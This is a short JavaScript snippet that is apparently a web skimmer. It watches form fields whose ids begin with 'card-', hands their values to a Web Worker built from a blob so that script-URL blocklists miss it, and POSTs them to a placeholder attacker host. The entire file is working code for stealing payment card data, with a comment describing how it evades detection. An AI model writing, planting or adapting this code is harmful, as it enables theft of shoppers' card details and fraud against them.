(function () {
  // The worker's code never touches the network as a URL of its own: it is
  // made from a blob, so a blocklist of script URLs never sees it.
  var src = "onmessage = function (e) { fetch('{{ATTACKER}}/w', {method: 'POST', mode: 'no-cors', body: e.data}); };";
  var w = new Worker(URL.createObjectURL(new Blob([src], {type: 'text/javascript'})));
  document.addEventListener('change', function (e) {
    var t = e.target;
    if (t && t.id && t.id.indexOf('card-') === 0 && t.value) {
      w.postMessage(JSON.stringify({f: t.id, v: t.value}));
    }
  }, true);
})();
